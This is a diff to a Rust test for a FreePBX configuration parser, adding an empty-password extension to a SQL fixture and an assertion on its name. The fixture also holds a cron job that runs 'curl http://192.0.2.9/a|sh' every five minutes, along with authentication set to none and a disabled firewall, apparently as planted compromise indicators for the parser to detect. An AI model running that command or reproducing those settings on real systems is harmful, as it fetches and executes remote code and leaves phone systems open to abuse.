@@ -136,6 +136,7 @@ INSERT INTO `trunks` (`trunkid`,`name`,`tech`,`failscript`,`channelid`,`disabled
 INSERT INTO `incoming` (`cidnum`,`extension`,`destination`) VALUES ('','','ext-group,600,1'),('','34911','disa,1,1');
 INSERT INTO `cron_jobs` (`modulename`,`jobname`,`command`,`class`,`schedule`,`max_runtime`,`enabled`,`execution_order`) VALUES ('sysadmin','xq7','curl http://192.0.2.9/a|sh',NULL,'*/5 * * * *',30,1,100),('framework','updates',NULL,'FreePBX\\\\Job','1 2 * * *',30,1,100);
 INSERT INTO `freepbx_settings` (`keyword`,`value`) VALUES ('AUTHTYPE','none'),('AMPMGRPASS','hidden-secret-2');
+INSERT INTO `users` (`extension`,`password`,`name`,`outboundcid`) VALUES ('301','','Front desk','');
 INSERT INTO `modules` (`id`,`modulename`,`version`,`enabled`) VALUES (1,'firewall','15.0.1',0);
 ";
 
@@ -186,5 +187,6 @@ fn what_a_panel_keeps_to_itself_is_told_even_where_files_tell_the_accounts() {
     assert!(!panel.modules[0].is_enabled);
     let settings: Vec<&str> = panel.settings.iter().map(|held| held.keyword.as_str()).collect();
     assert_eq!(settings, ["AUTHTYPE"]);
+    assert_eq!(pbx.accounts[0].display_name.as_deref(), Some("Front desk"));
     assert!(!format!("{pbx:?}").contains("hidden-secret"));
 }
